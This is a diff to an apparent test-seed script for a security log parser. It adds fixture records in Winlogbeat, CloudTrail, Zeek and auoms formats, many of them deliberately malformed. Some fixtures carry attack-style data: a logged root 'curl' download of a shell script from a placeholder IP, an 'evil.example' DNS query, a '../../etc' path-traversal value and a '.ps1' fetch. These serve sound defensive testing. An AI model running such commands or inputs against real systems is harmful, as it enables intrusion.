@@ -93,6 +93,26 @@ seed("json_reader", "event-data-binary.json",
      '{"Event":{"System":{"EventID":7045,"Channel":"System"},"EventData":{"Binary":"00ff","Data":"x"}}}')
 seed("json_reader", "long-line.jsonl", '{"CommandLine":"' + "A" * 3500 + '"}\n')
 
+# Shapes recognised since: Winlogbeat 6.x top-level names, flat exports
+# keyed EventLog, CloudTrail, Zeek under a shipper's @stream key.
+seed("json_reader", "winlogbeat6.json",
+     '{"@timestamp":"2019-05-18T20:43:36.801Z","computer_name":"HR001","log_name":"Microsoft-Windows-Sysmon/Operational",'
+     '"source_name":"Microsoft-Windows-Sysmon","event_id":1,"record_number":"7","process_id":2440,'
+     '"user":{"identifier":"S-1-5-18"},"event_data":{"Image":"C:\\\\x.exe","UtcTime":"2019-05-18 20:43:36.728"}}\n'
+     '{"log_name":5,"event_id":"x","source_name":[],"event_data":"not an object","user_data":{"a":{"b":1}}}\n')
+seed("json_reader", "eventlog-keyed.json",
+     '{"EventID":1,"EventLog":"Microsoft-Windows-Sysmon/Operational","Computer":"WS1",'
+     '"UtcTime":"2020-05-02 03:00:01.000","@timestamp":"2020-05-01T23:00:01Z","Image":"C:\\\\x.exe"}\n'
+     '{"EventID":"4688","LogName":"Security","MachineName":"","ProviderName":null}\n')
+seed("json_reader", "cloudtrail.json",
+     '{"eventVersion":"1.05","eventTime":"2020-09-14T00:44:23Z","eventSource":"s3.amazonaws.com",'
+     '"eventName":"GetObject","awsRegion":"us-east-1","userIdentity":{"type":"IAMUser"}}\n'
+     '{"eventSource":1,"eventName":null,"eventTime":"yesterday","awsRegion":[]}\n')
+seed("json_reader", "zeek-stream-mixed.json",
+     '{"note":"header"}\n{"@stream":"dns","ts":"2020-05-02T03:00:02Z","uid":"C2","id_orig_h":"10.0.1.4",'
+     '"id_resp_p":53,"query":"evil.example"}\n{"@path":"../../etc","ts":5,"uid":"C3"}\n'
+     '{"@stream":"' + "x" * 200 + '","ts":1,"id":{}}\n')
+
 # ---------------------------------------------------------------- sigma_rule
 SIGMA_BASIC = """title: Whoami Execution
 id: 8f1a8f0a-0000-4000-8000-000000000001
@@ -377,6 +397,17 @@ seed("syslog", "sysmon-linux-bad-xml.log",
 seed("syslog", "invalid-utf8.log", b"Jan  1 00:00:01 h\xff\xfe sshd[1]: \xc0\xaf Failed password for r\xe9 from 1.2.3.4 port 1 ssh2\n")
 seed("syslog", "long-line.log", "Jan  1 00:00:01 h a: " + "x" * 3800 + "\n")
 
+seed("syslog", "auoms.log",
+     'Dec 14 19:26:40 web01 auoms[991]: type=AUOMS_EXECVE audit(1639510000.123:4567): syscall=execve success=yes '
+     'ppid=1200 pid=1300 audit_user=root exe="/usr/bin/curl" cmdline="curl -s http://198.51.100.7/a.sh" cwd="/tmp"\n'
+     'Dec 14 19:26:41 web01 auoms[991]: type=AUOMS_EXECVE audit(: exe="unterminated\n'
+     'Dec 14 19:26:42 web01 auoms[991]: type=AUOMS_SYSCALL msg=audit(99999999999999.9:x): ' + "k=v " * 300 + "\n")
+seed("syslog", "sysmon-linux-retagged.log",
+     '2021-10-19T14:41:06.5+00:00 h Linux-Sysmon[1]: <Event><System><EventID>1</EventID>'
+     '<Channel>Linux-Sysmon/Operational</Channel><Computer>h</Computer></System><EventData>'
+     '<Data Name="Image">/bin/sh</Data></EventData></Event>\n'
+     'Jan  1 00:00:01 h fwd: <Event><Provider Name="Linux-Sysmon"/></Event>\n')
+
 # ---------------------------------------------------------------- auditd
 AUDIT = """type=SYSCALL msg=audit(1704103380.100:501): arch=c000003e syscall=59 success=yes exit=0 a0=55d0c0a0 a1=55d0c0b0 a2=55d0c0c0 a3=0 items=2 ppid=2300 pid=2301 auid=1001 uid=33 gid=33 euid=33 suid=33 fsuid=33 egid=33 sgid=33 fsgid=33 tty=(none) ses=7 comm="bash" exe="/usr/bin/bash" key="webshell_exec"
 type=EXECVE msg=audit(1704103380.100:501): argc=3 a0="bash" a1="-c" a2=77686F616D69203B2069642022242829
@@ -437,6 +468,11 @@ seed("zeek", "http-json.log",
 seed("zeek", "json-nested-id.log", '{"_path":"conn","ts":1.0,"id":{"orig_h":"10.0.0.1","orig_p":1,"resp_h":"10.0.0.2","resp_p":"x"}}\n')
 seed("zeek", "json-bad-types.log", '{"_path":5,"ts":"not a time","id.orig_h":[],"id.orig_p":-1e99,"uid":{}}\n{"ts":1e400}\n[1,2]\n')
 seed("zeek", "json-truncated.log", '{"_path":"conn","ts":1704067500.25,"uid":"C')
+seed("zeek", "json-stream-keyed.log",
+     '{"@stream":"conn","@system":"s1","ts":"2020-05-02T03:00:01.250Z","uid":"C1","id.orig_h":"10.0.1.4",'
+     '"id.orig_p":49700,"id.resp_h":"192.0.2.8","id.resp_p":443}\n'
+     '{"@path":"zeek_http.log","ts":1588388403.5,"uid":"C3","id_orig_h":"10.0.1.4","uri":"/a.ps1?x"}\n'
+     '{"@stream":"","ts":null,"uid":"C4"}\n{"@stream":["x"],"ts":"2020","id.orig_h":1}\n')
 seed("zeek", "empty.log", "")
 seed("zeek", "headers-only.log", CONN.split("1704067200")[0])
 seed("zeek", "invalid-utf8.log", CONN.split("1704067200")[0].encode() + b"1.0\t\xff\xfe\t10.0.0.1\n")
